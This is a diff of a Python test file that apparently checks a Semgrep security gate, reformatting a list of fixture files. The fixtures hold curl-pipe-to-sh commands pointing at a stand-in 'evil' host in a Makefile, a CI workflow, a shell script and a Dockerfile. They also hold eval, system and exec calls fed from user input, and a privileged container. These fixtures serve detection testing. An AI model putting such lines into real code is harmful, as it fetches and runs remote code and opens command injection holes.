@@ -10,66 +10,26 @@ from agents.gates.semgrep_tool import find_semgrep
 
 # A file with a finding, a piece of its text, and what that becomes.
 CHANGES = [
-    (
-        "Makefile",
-        "SOURCE = https://good.example/x\nall:\n\tcurl $(SOURCE) | sh\n",
-        "good",
-        "evil",
-    ),
+    ("Makefile", "SOURCE = https://good.example/x\nall:\n\tcurl $(SOURCE) | sh\n", "good", "evil"),
     (
         ".github/workflows/a.yml",
         "jobs:\n  a:\n    env:\n      SOURCE: https://good.example/x\n    steps:\n      - run: curl $SOURCE | sh\n",
         "good",
         "evil",
     ),
-    (
-        "a.sh",
-        "SOURCE=https://good.example/x\n\ncurl $SOURCE | sh\n",
-        "good",
-        "evil",
-    ),
-    (
-        "a.rb",
-        "x = 'ls'\ndef f(x)\n  eval(x)\nend\nf('ls')\n",
-        "f('ls')",
-        "f(gets)",
-    ),
-    (
-        "a.js",
-        "function f(x) {\n  eval(x);\n}\nf('ls');\n",
-        "f('ls')",
-        "f(location.hash)",
-    ),
-    (
-        "b.js",
-        "const t = {\n  a: 'x',\n};\nfunction f() {\n  eval(t.a);\n}\n",
-        "'x'",
-        "location.hash",
-    ),
-    (
-        "c.js",
-        "function g() { return 'x'; }\nfunction f() {\n  eval(g());\n}\n",
-        "'x'",
-        "location.hash",
-    ),
-    (
-        "Dockerfile",
-        "ARG S=https://good.example\nFROM a:1\nRUN curl $S | sh\nUSER x\n",
-        "good",
-        "evil",
-    ),
+    ("a.sh", "SOURCE=https://good.example/x\n\ncurl $SOURCE | sh\n", "good", "evil"),
+    ("a.rb", "x = 'ls'\ndef f(x)\n  eval(x)\nend\nf('ls')\n", "f('ls')", "f(gets)"),
+    ("a.js", "function f(x) {\n  eval(x);\n}\nf('ls');\n", "f('ls')", "f(location.hash)"),
+    ("b.js", "const t = {\n  a: 'x',\n};\nfunction f() {\n  eval(t.a);\n}\n", "'x'", "location.hash"),
+    ("c.js", "function g() { return 'x'; }\nfunction f() {\n  eval(g());\n}\n", "'x'", "location.hash"),
+    ("Dockerfile", "ARG S=https://good.example\nFROM a:1\nRUN curl $S | sh\nUSER x\n", "good", "evil"),
     (
         "pod.yaml",
         "apiVersion: v1\nspec:\n  containers:\n    - image: good\n      securityContext:\n        privileged: true\n",
         "good",
         "evil",
     ),
-    (
-        "a.php",
-        "<?php\nfunction f($x) { system($x); }\nf('ls');\n",
-        "f('ls')",
-        "f($_GET['a'])",
-    ),
+    ("a.php", "<?php\nfunction f($x) { system($x); }\nf('ls');\n", "f('ls')", "f($_GET['a'])"),
     (
         "a.go",
         'package main\nfunc g() string { return "ls" }\nfunc f() { exec.Command("sh", "-c", g()).Run() }\n',
